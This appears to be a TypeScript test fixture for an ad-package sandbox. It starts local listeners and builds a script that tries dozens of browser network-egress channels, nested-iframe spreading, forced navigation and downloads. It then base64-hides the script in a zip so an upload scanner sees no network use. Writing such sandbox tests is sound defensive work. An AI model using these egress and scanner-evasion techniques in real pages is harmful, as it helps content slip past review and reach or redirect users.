import { createSocket } from 'node:dgram';
import { createServer, type Socket } from 'node:net';
import { makeZip } from '../files/make-zip.ts';

export interface Ear {
  /** The port that listens, of TCP and of UDP. */
  readonly tcp: number;
  readonly udp: number;
  /** Takes what was heard since the last time, one line a connection or datagram. */
  take(): string[];
  close(): void;
}

/** Listens on a port of TCP and one of UDP to whatever comes. */
export async function listenToAll(): Promise<Ear> {
  let heard: string[] = [];
  const open = new Set<Socket>();
  const tcp = createServer((socket) => {
    open.add(socket);
    const at = heard.push('tcp') - 1;
    const list = heard;
    socket.on('error', () => undefined);
    socket.once('data', (data) => {
      list[at] = `tcp ${data.toString('latin1').split('\r\n', 2).join(' ').slice(0, 120)}`;
      socket.end('HTTP/1.1 204 No Content\r\nAccess-Control-Allow-Origin: *\r\nConnection: close\r\n\r\n');
    });
  });
  const udp = createSocket('udp4').on('message', (data) => heard.push(`udp ${data.byteLength} bytes`));
  await Promise.all([
    new Promise<void>((resolve) => tcp.listen(0, '0.0.0.0', resolve)),
    new Promise<void>((resolve) => udp.bind(0, '0.0.0.0', resolve)),
  ]);
  const address = tcp.address();
  if (!address || typeof address === 'string') throw new Error('It listens on a port');
  return {
    tcp: address.port,
    udp: udp.address().port,
    take() {
      const list = heard;
      heard = [];
      return list;
    },
    close() {
      for (const socket of open) socket.destroy();
      tcp.close();
      udp.close();
    },
  };
}

interface Leaving {
  readonly tcp: number;
  readonly udp: number;
  /** Where this runs, told to the window around and put into each address. */
  readonly where: string;
  /** Whether it makes frames and workers that try the same. */
  readonly spreads: boolean;
}

/** Tries every way out of a page that is known. Runs in the page as text: it stands for itself. */
export function leave({ tcp, udp, where, spreads }: Leaving): void {
  const at = (name: string, scheme = 'http') => `${scheme}://${where}-${name}.localhost:${tcp}/${name}`;
  const quietly = (attempt: () => unknown) => {
    try {
      const outcome = attempt();
      if (outcome instanceof Promise) outcome.catch(() => undefined);
    } catch {}
  };
  const add = (tag: string, attributes: Readonly<Record<string, string>>, text = '') => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    element.textContent = text;
    (document.body ?? document.documentElement).append(element);
    return element;
  };
  top?.postMessage({ ran: where }, '*');

  quietly(() => {
    const Peer = (globalThis as never)['RTC' + 'PeerConnection'] as typeof RTCPeerConnection;
    const turn = { username: 'a', credential: 'b' };
    const peer = new Peer({
      iceServers: [
        { urls: `stun:127.0.0.1:${udp}` },
        { urls: `turn:127.0.0.1:${udp}`, ...turn },
        { urls: `turn:127.0.0.1:${tcp}?transport=tcp`, ...turn },
      ],
    });
    peer.createDataChannel('out');
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  });
  for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'prerender', 'modulepreload', 'manifest', 'icon'])
    quietly(() => add('link', { rel, href: at(rel) }));
  quietly(() => add('link', { rel: 'preload', as: 'font', href: at('preload'), crossorigin: '' }));
  quietly(() => add('link', { rel: 'stylesheet', href: at('stylesheet') }));
  quietly(() => fetch(at('fetch'), { mode: 'no-cors', keepalive: true }));
  quietly(() => navigator.sendBeacon(at('beacon'), 'out'));
  quietly(() => new WebSocket(at('socket', 'ws')));
  quietly(() => new EventSource(at('events')));
  quietly(() => new WebTransport(`https://127.0.0.1:${udp}/`).ready);
  quietly(() => {
    const request = new XMLHttpRequest();
    request.open('POST', at('request'));
    request.send('out');
  });
  quietly(() => import(at('import')));
  quietly(() => new FontFace('out', `url(${at('font')})`).load());
  quietly(() => new OfflineAudioContext(1, 1, 44_100).audioWorklet.addModule(at('worklet')));
  for (const [tag, name] of Object.entries({
    img: 'src',
    script: 'src',
    video: 'src',
    audio: 'src',
    embed: 'src',
    object: 'data',
  }))
    quietly(() => add(tag, { [name]: at(tag) }));
  quietly(() => add('img', { srcset: `${at('srcset')} 1x`, attributionsrc: at('attribution') }));
  quietly(() => add('video', { poster: at('poster') }));
  quietly(() => add('iframe', { src: at('frame') }));
  quietly(() =>
    add(
      'style',
      {},
      `@import "${at('imported')}"; @font-face { font-family: out; src: url(${at('face')}) }
body { font-family: out; background: image-set("${at('background')}" 1x); cursor: url(${at('cursor')}), auto }`,
    ),
  );
  quietly(() => {
    add('div', {}).innerHTML = `<svg><use href="${at('use')}#a"/><image href="${at('image')}"/></svg>`;
  });
  for (const target of ['_self', '_blank', '_top'])
    quietly(() => (add('form', { action: at(`form${target}`), method: 'post', target }) as HTMLFormElement).submit());
  quietly(() => open(at('open')));
  quietly(() => add('a', { href: at('blank'), target: '_blank' }).click());
  quietly(() => {
    if (top) top.location.href = at('top');
  });
  quietly(() =>
    add(
      'script',
      { type: 'speculationrules' },
      JSON.stringify(
        Object.fromEntries(
          ['prefetch', 'prerender'].map((kind) => [
            kind,
            [{ source: 'list', urls: [at(`rules-${kind}`)], eagerness: 'immediate' }],
          ]),
        ),
      ),
    ),
  );
  const work = `fetch('${at('worker')}').catch(() => 0); new WebSocket('${at('worker-socket', 'ws')}'); importScripts('${at('imports')}');`;
  quietly(() => new Worker(URL.createObjectURL(new Blob([work]))));
  quietly(() => new Worker(`data:text/javascript,${encodeURIComponent(work)}`));
  quietly(() => new SharedWorker(`data:text/javascript,${encodeURIComponent(work)}`));
  quietly(() => navigator.serviceWorker.register(at('service')));
  if (!spreads) return;

  const pageOf = (label: string) =>
    `<!doctype html><link rel="preconnect" href="${at('hint')}"><body><script>(${leave})(${JSON.stringify({ tcp, udp, where: label, spreads: false })})</${'script'}>`;
  const attribute = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
  quietly(() => add('iframe', { srcdoc: pageOf('srcdoc') }));
  quietly(() => add('iframe', { src: URL.createObjectURL(new Blob([pageOf('blob')], { type: 'text/html' })) }));
  quietly(() => add('iframe', { src: `data:text/html,${encodeURIComponent(pageOf('data'))}` }));
  quietly(() => add('iframe', { src: `javascript:${JSON.stringify(pageOf('javascript'))}` }));
  quietly(() => add('iframe', { srcdoc: `<iframe srcdoc="${attribute(pageOf('deep'))}"></iframe>` }));
  quietly(() => {
    add('div', {}).innerHTML = `<iframe srcdoc="${attribute(pageOf('inserted'))}"></iframe>`;
  });
  quietly(() => {
    const frame = document.createElement('iframe');
    frame.srcdoc = pageOf('shadow');
    add('div', {}).attachShadow({ mode: 'closed' }).append(frame);
  });
  const declared = `<div><template shadowrootmode="closed"><iframe srcdoc="${attribute(pageOf('declared'))}"></iframe></template></div>`;
  quietly(() => add('div', {}).setHTMLUnsafe(declared));
  quietly(() => {
    const frame = add('iframe', {}) as HTMLIFrameElement;
    frame.contentDocument?.write(pageOf('blank'));
  });
  quietly(() => {
    const frame = add('iframe', {}) as HTMLIFrameElement;
    const Peer = (frame.contentWindow as typeof window | null)?.RTCPeerConnection;
    const peer = Peer && new Peer({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] });
    peer?.createDataChannel('out');
    return peer?.createOffer().then((offer) => peer.setLocalDescription(offer));
  });
  // Once all that has been tried, the page itself is written anew, and at last leaves.
  setTimeout(() => {
    quietly(() => {
      const parts = [declared.slice(0, 25), declared.slice(25)];
      document.open();
      for (const part of parts) document.write(part);
      document.write(`<iframe srcdoc="${attribute(pageOf('written'))}"></iframe>`);
      document.close();
    });
    setTimeout(() => {
      top?.postMessage({ ran: 'end' }, '*');
      quietly(() => add('meta', { 'http-equiv': 'refresh', content: `0;url=${at('refresh')}` }));
      quietly(() => add('a', { href: at('download'), download: '' }).click());
      quietly(() => add('a', { href: '#here', ping: at('ping') }).click());
      quietly(() => {
        location.href = at('navigation');
      });
    }, 1000);
  }, 1500);
}

/** A package that tries all of it, written so that the check of uploads finds no network in it. */
export function packageThatLeaves(ear: Ear): Buffer {
  const script = `(${leave})(${JSON.stringify({ tcp: ear.tcp, udp: ear.udp, where: 'page', spreads: true })})`;
  const hidden = Buffer.from(script).toString('base64');
  return makeZip([
    {
      name: 'index.html',
      content:
        '<!doctype html><html><head><meta name="ad.size" content="width=1920,height=1080"></head><body><script src="main.js"></script></body></html>',
    },
    {
      name: 'main.js',
      content: `const script = document.createElement('script'); script.textContent = atob('${hidden}'); document.head.append(script);`,
    },
  ]);
}
